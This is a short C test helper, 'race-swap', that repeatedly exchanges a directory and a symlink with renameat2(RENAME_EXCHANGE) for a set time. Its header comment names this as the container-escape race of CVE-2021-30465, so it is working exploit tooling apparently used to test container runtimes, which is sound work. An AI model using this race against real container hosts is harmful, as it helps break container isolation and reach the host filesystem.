// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * race-swap A B SECONDS: exchange A and B (say a directory and a symlink)
 * with renameat2(RENAME_EXCHANGE) as fast as possible for SECONDS, the way
 * a container sharing a volume attacks a runtime that mounts into it
 * (CVE-2021-30465).  Prints how many swaps it made.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/syscall.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	unsigned long swaps = 0;
	double end;

	if (argc != 4) {
		fprintf(stderr, "usage: race-swap A B SECONDS\n");
		return 2;
	}
	end = now() + atof(argv[3]);
	while (now() < end) {
		for (int i = 0; i < 1000; i++) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
			swaps++;
		}
	}
	printf("%lu\n", swaps);
	return 0;
}
